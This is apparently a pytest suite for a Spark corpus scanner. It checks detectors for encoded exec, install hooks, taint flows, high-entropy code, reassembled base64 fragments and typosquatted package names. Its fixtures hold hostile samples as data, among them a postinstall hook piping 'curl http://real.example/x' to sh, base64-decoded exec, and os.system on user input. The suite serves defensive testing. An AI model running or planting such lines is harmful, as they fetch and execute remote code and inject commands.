
import os
import tempfile

import pytest

from corpus_guard.operators.deps import near_names
from corpus_guard.queries import QUERIES

SF = "/root/testdata/sf0.001"


@pytest.fixture(scope="module")
def real(spark):
    """Tables whose documents (ids without a seed), page and turn hold programs, manifests and fragments of their own."""
    path = tempfile.mkdtemp(prefix="spark-real-")
    texts = {
        61: "name = input()\nos.system(name)",  # toml: ext by id % 8
        57: "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\nv = os.environ['A']\nos.system(v)",  # py
        59: '{"name": "real", "scripts": {"postinstall": "curl http://real.example/x | sh"}}',  # json
        58: "let a = 1;\n" + "a" * 2000 + "".join(chr(33 + i % 90) for i in range(12_000)),  # js
    }
    spark.createDataFrame([(i, t, "en", "src", len(t)) for i, t in texts.items()], "doc_id long, text string, lang string, source string, n_chars long").write.parquet(f"{path}/documents.parquet")
    spark.createDataFrame([(1, "http://p.example", "<p title='cGFnZWZyYWdtZW50'>x</p>")], "page_id long, url string, html string").write.parquet(f"{path}/pages.parquet")
    spark.createDataFrame([(1, 2, "user", "say 'dHVybmZyYWdtZW50' now")], "conv_id long, turn long, role string, text string").write.parquet(f"{path}/conversations.parquet")
    for t in set(os.listdir(SF)) - set(os.listdir(path)):
        os.symlink(f"{SF}/{t}", f"{path}/{t}")
    return path


def test_detectors_read_real_text(spark, real):
    assert {r.path for r in QUERIES["c50_py_ast"](spark, real).where("category = 'encoded-exec'").collect()} == {"src/doc-57.py"}
    assert {r.path for r in QUERIES["c52_taint_flows"](spark, real).collect()} == {"src/doc-57.py"}
    assert "src/doc-59.json" in {r.path for r in QUERIES["c35_install_hooks"](spark, real).collect()}
    frags = {r.frag: r.path for r in QUERIES["j03_fragments"](spark, real).collect()}
    assert frags["cGFnZWZyYWdtZW50"] == "pages/1.html" and frags["dHVybmZyYWdtZW50"] == "conv/1/2.txt"


def test_whole_line_and_command(spark, real):
    found = QUERIES["c48_entrypoint"](spark, real).where("category = 'entrypoint-entropy'").collect()
    assert "src/doc-58.js" in {r.path for r in found}


def test_whole_command(spark, real):
    spark.createDataFrame([(2, 0, "user", "run " + "x" * 20_000 + " last")], "conv_id long, turn long, role string, text string").write.mode("append").parquet(f"{real}/conversations.parquet")
    bare = {r.session: r.bare for r in QUERIES["i15_strip_shell_comment"](spark, real).collect()}[2]
    assert bare.startswith("echo 'a # b' run xxx") and "x" * 20_000 + " last" in bare


def test_real_fragments_of_a_hot_source_are_reassembled(spark):
    path = tempfile.mkdtemp(prefix="spark-hot-")
    pieces = {6400 + 61: "x = 'cmVhbCBw'", 6400 + 62: "x = 'aWVjZXMg'", 6400 + 63: "x = 'b2YgY29k'"}
    rows = [(i, f"y = 'ZZ{i:06d}'" if i < 6400 else pieces.get(i), "en", "src", 1) for i in range(6464)]
    spark.createDataFrame(rows, "doc_id long, text string, lang string, source string, n_chars long").write.parquet(f"{path}/documents.parquet")
    for t in set(os.listdir(SF)) - set(os.listdir(path)):
        os.symlink(f"{SF}/{t}", f"{path}/{t}")
    blobs = [r.blob for r in QUERIES["j04_reassemble"](spark, path).where("repo like 'src/%'").collect()]
    assert any("cmVhbCBwaWVjZXMgb2YgY29k" in b for b in blobs)


def test_short_near_names(spark):
    names = ["vue", "got", "a", "ab", "abcde", "xbcdy", "vxuxe", "lodahs", "reactt", "q", "nothing-like-it"]
    popular = ["vie", "gat", "b", "cd", "axcye", "react", "lodash", "express"]

    def edits(a, b):
        row = list(range(len(b) + 1))
        for i, x in enumerate(a, 1):
            row, old = [i], row
            for j, y in enumerate(b, 1):
                row.append(min(row[-1] + 1, old[j] + 1, old[j - 1] + (x != y)))
        return row[-1]

    want = {n: next((p for p in popular if edits(n, p) <= 2), None) for n in names}
    deps = spark.createDataFrame([(n,) for n in names], "name string")
    got = near_names(deps, spark.createDataFrame(list(enumerate(popular)), "ord int, popular string"))
    assert {r.name: r.popular for r in got.collect()} == {n: p for n, p in want.items() if p}
